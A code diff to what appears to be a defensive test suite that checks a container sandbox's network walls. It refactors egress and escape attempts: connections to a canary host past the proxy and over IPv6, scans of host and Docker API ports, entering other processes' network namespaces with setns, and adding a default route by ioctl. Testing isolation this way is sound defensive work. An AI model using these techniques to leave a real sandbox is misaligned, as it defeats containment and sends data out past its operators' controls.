@@ -3,10 +3,12 @@
 from __future__ import annotations
 
 import contextlib
+import fcntl
 import os
 import socket
 import struct
 from collections.abc import Callable, Iterator
+from pathlib import Path
 
 from tests.attack.inside.core import PLACES, WALLED, Attack, Try, technique
 from tests.attack.inside.talking import PATIENCE, tcp, udp
@@ -27,6 +29,7 @@ def direct_tcp(attack: Attack) -> Iterator[Try]:
     """TCP to the internet past the proxy, at usual and unusual ports."""
     for port in (80, 443, 53, 123, 853, 1080, 3128, 5228, 8080, 8443, 65535):
         yield attack.tries(f"port {port}", lambda port=port: tcp(attack.world.canary, port, payload(attack)))
+    yield attack.tries("by an IPv6 socket", lambda: tcp(f"::ffff:{attack.world.canary}", 443, payload(attack)))
 
 
 @technique(PLACES)
@@ -210,7 +213,6 @@ def ipv6(attack: Attack) -> Iterator[Try]:
     target = attack.world.canary6 or "2606:4700:4700::1111"
     yield attack.tries("TCP 443", lambda: tcp(target, 443, payload(attack)))
     yield attack.tries("UDP 53", lambda: udp(target, 53, payload(attack)))
-    yield attack.tries("mapped", lambda: tcp(f"::ffff:{attack.world.canary}", 443, payload(attack)))
 
 
 @technique()
@@ -231,7 +233,7 @@ def ipv6_neighbours(attack: Attack) -> Iterator[Try]:
 
 
 def _all_nodes(index: int, found: list[str]) -> str:
-    own = {line.split()[0] for line in _lines("/proc/net/if_inet6")}
+    own = {line.split()[0] for line in Path("/proc/net/if_inet6").read_text().splitlines()}
     with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6) as sock:
         sock.settimeout(PATIENCE / 2)
         sock.sendto(struct.pack("!BBHHH", 128, 0, 0, 7, 1), ("ff02::1", 0, 0, index))
@@ -248,12 +250,6 @@ def _scoped(address: str, port: int, index: int) -> str:
         sock.settimeout(PATIENCE)
         sock.connect((address, port, 0, index))
     return "connected"
-
-
-def _lines(path: str) -> list[str]:
-    with contextlib.suppress(OSError), open(path) as file:  # noqa: PTH123  (pathlib costs as much as all of this)
-        return file.read().splitlines()
-    return []
 
 
 @technique()
@@ -290,29 +286,30 @@ def other_classes_listeners(attack: Attack) -> Iterator[Try]:
 def health_and_metrics(attack: Attack) -> Iterator[Try]:
     """The proxy's own /healthz, /readyz and /metrics."""
     for host, port in attack.world.health:
-        for path in ("/healthz", "/readyz", "/metrics"):
-            request = f"GET {path} HTTP/1.0\r\n\r\n".encode()
-            yield attack.tries(f"{host}:{port}{path}", lambda host=host, port=port, get=request: tcp(host, port, get))
+        yield attack.tries(
+            f"{host}:{port}", lambda host=host, port=port: tcp(host, port, b"GET /metrics HTTP/1.0\r\n\r\n")
+        )
 
 
 @technique()
 def addresses_of_hosts(attack: Attack) -> Iterator[Try]:
     """Ports of the gateway, of VPS-1 and of VPS-2, by every address that they have, our own bridge's among them."""
-    listening = {attack.world.proxy, *attack.world.listeners, *attack.world.health}
-    for host in attack.world.hosts:
-        for port in (22, 53, 80, 3100, 4318, 5355, 9090, 9428, 18789, 18790, 9222):
-            if (host, port) not in listening:
-                yield attack.tries(f"{host}:{port}", lambda host=host, port=port: tcp(host, port, b"GET / HTTP/1.0\n\n"))
+    yield from _ports(attack, (22, 53, 80, 3100, 4318, 5355, 9090, 9428, 18789, 18790, 9222))
+
+
+def _ports(attack: Attack, ports: tuple[int, ...]) -> Iterator[Try]:
+    """Ports of every host, asked in HTTP."""
+    yield from attack.side_by_side(
+        (f"{host}:{port}", lambda host=host, port=port: tcp(host, port, b"GET / HTTP/1.0\r\n\r\n"))
+        for host in attack.world.hosts
+        for port in ports
+    )
 
 
 @technique()
 def docker_over_tcp(attack: Attack) -> Iterator[Try]:
     """A Docker engine's API at 2375, 2376, 2377 and 4243 of every host."""
-    for host in attack.world.hosts:
-        for port in (2375, 2376, 2377, 4243):
-            yield attack.tries(
-                f"{host}:{port}", lambda host=host, port=port: tcp(host, port, b"GET /version HTTP/1.0\r\n\r\n")
-            )
+    yield from _ports(attack, (2375, 2376, 2377, 4243))
 
 
 @technique(PLACES)
@@ -338,7 +335,7 @@ def _ping(attack: Attack, host: str) -> str:
 
 @technique()
 def containers_of_other_classes(attack: Attack) -> Iterator[Try]:
-    """What containers of other classes listen on, such as the browser's CDP port, straight and where it is published."""
+    """What containers of other classes listen on, such as a browser's CDP port."""
     for host, port in attack.world.neighbours:
         yield attack.tries(f"{host}:{port}", lambda host=host, port=port: tcp(host, port, b"GET / HTTP/1.0\r\n\r\n"))
     yield Try("every one of them")
@@ -347,9 +344,7 @@ def containers_of_other_classes(attack: Attack) -> Iterator[Try]:
 @technique(("gateway",))
 def other_hosts(attack: Attack) -> Iterator[Try]:
     """The gateway's way to VPS-1, VPS-2 and other containers, which is by the proxy alone."""
-    for host in attack.world.hosts:
-        for port in (22, 80, 2375, 3100, 4318, 9090, 9428):
-            yield attack.tries(f"{host}:{port}", lambda host=host, port=port: tcp(host, port, b"GET / HTTP/1.0\n\n"))
+    yield from _ports(attack, (22, 80, 2375, 3100, 4318, 9090, 9428))
 
 
 @technique(PLACES)
@@ -381,16 +376,15 @@ def _unshared(flags: int, then: Callable[[], str]) -> str:
 @technique(WALLED)
 def others_namespaces(attack: Attack) -> Iterator[Try]:
     """The network namespaces of other processes that /proc shows."""
-    own = os.readlink("/proc/self/ns/net")
-    for process in [name for name in os.listdir("/proc") if name.isdigit()]:
-        yield attack.tries(f"/proc/{process}/ns/net", lambda process=process: _enter(attack, process, own))
+    own = Path("/proc/self/ns/net").readlink()
+    for process in [path for path in Path("/proc").iterdir() if path.name.isdigit()]:
+        yield attack.tries(str(process), lambda process=process: _enter(attack, process / "ns/net", own))
 
 
-def _enter(attack: Attack, process: str, own: str) -> str:
-    path = f"/proc/{process}/ns/net"
-    if os.readlink(path) == own:
+def _enter(attack: Attack, path: Path, own: Path) -> str:
+    if path.readlink() == own:
         return ""
-    with open(path) as namespace:  # noqa: PTH123
+    with path.open() as namespace:
         os.setns(namespace.fileno(), os.CLONE_NEWNET)
     return "entered: " + tcp(attack.world.canary, 443, payload(attack))
 
@@ -404,13 +398,14 @@ def rerouting(attack: Attack) -> Iterator[Try]:
 
 
 def _route(attack: Attack, gateway: str) -> str:
-    import fcntl  # noqa: PLC0415  (where it is used)
-
     def address(text: str) -> bytes:
         return struct.pack("HH4s8x", socket.AF_INET, 0, socket.inet_aton(text))
 
-    # struct rtentry of <net/route.h>, 64 bits; flags: up, gateway; SIOCADDRT.
+    # struct rtentry of <net/route.h>, 64 bits; flags: up, gateway; SIOCADDRT, SIOCDELRT.
     entry = struct.pack("L", 0) + address("0.0.0.0") + address(gateway) + address("0.0.0.0") + struct.pack("H", 3)
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
         fcntl.ioctl(sock, 0x890B, entry.ljust(120, b"\0"))
-    return "the route was set: " + tcp(attack.world.canary, 443, payload(attack))
+        try:
+            return "the route was set: " + tcp(attack.world.canary, 443, payload(attack))
+        finally:
+            fcntl.ioctl(sock, 0x890C, entry.ljust(120, b"\0"))
